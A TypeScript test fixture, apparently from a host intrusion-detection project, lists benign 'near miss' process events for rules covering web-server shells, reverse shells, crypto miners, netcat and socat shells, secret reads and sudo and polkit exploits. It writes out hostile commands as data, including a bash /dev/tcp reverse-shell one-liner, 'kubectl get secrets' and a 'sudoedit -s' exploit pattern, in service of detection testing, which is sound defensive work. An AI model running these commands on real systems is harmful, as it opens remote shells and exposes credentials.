// What comes close to the actions of host/generate/actions/attack-tools.ts.

import { NETCAT } from '../../host/generate/actions/attack-tools.ts';
import { runs, starts } from '../../host/generate/actions/pretended.ts';
import { become, pretend } from '../../host/generate/actions/steps.ts';
import { type NearMisses, onHost } from './near-miss.ts';

export const ATTACK_TOOL_NEAR_MISSES: NearMisses = {
  'start-shell-from-web-server': [
    { what: 'a check of its health', ...starts('httpd', 'sh', '-c', 'healthcheck') },
    { what: 'another program does', ...starts('make', 'sh', '-c', 'ls') },
  ],
  'start-download-from-web-server': [
    { what: 'a check of its health', ...starts('php-fpm', 'curl', 'http://127.0.0.1/healthcheck') },
    { what: 'an image is made smaller', ...starts('php-fpm', 'convert', 'picture.png') },
  ],
  'start-reverse-shell-from-web-server': [
    { what: 'a shell that is told something else', ...starts('apache2', 'bash', '-c', 'ls /dev') },
    { what: 'another program does', ...starts('make', 'bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1') },
  ],
  'run-miner': [{ what: 'a program of a similar name', ...runs('xmr') }],
  'run-miner-under-another-name': [
    { what: 'told of a time server', ...runs('worker', '-o', 'stratum=1', '--server', 'tcp://pool.example') },
  ],
  'run-netcat-with-shell-on-host': [
    { what: 'only connecting', ...runs('nc', '192.0.2.1', '22') },
    { what: 'in a container', where: 'container', ...runs('nc', ...NETCAT) },
  ],
  'run-socat-with-shell-on-host': [{ what: 'only connecting', ...runs('socat', 'TCP:192.0.2.1:22', 'STDIO') }],
  'run-network-tool-at-installation': [
    { what: 'a compiler is started', ...starts('npm', 'gcc', '-c', 'addon.c') },
    { what: 'not at an installation', ...starts('make', 'nmap', '-sn', '192.0.2.0/30') },
    onHost(starts('npm', 'nmap', '-sn', '192.0.2.0/30')),
  ],
  'run-cluster-tool-in-container': [
    { what: 'another tool', ...runs('helm', 'list') },
    onHost(runs('kubectl', 'get', 'secrets')),
  ],
  'decode-payload': [{ what: 'told to encode', ...runs('base64', '-w0') }, onHost(runs('base64', '-d'))],
  'look-round-at-terminal': [
    { what: 'without a terminal', ...runs('whoami') },
    { what: 'a script does', steps: ({ directory }) => [['@terminal'], ['@fork'], become(directory, 'whoami')] },
    { what: 'another program', steps: ({ directory }) => [['@terminal'], become(directory, 'date')] },
  ],
  'exploit-sudo': [
    { what: 'with a whole name', ...runs('sudoedit', '-s') },
    { what: 'another program', steps: ({ directory, marker }) => [pretend(directory, 'edit', '-s', `${marker}\\`)] },
  ],
  'exploit-polkit': [
    { what: 'with a program to run', ...runs('pkexec') },
    {
      what: 'another program',
      steps: ({ directory, marker }) => [become(directory, marker), pretend(directory, 'run0')],
    },
  ],
};
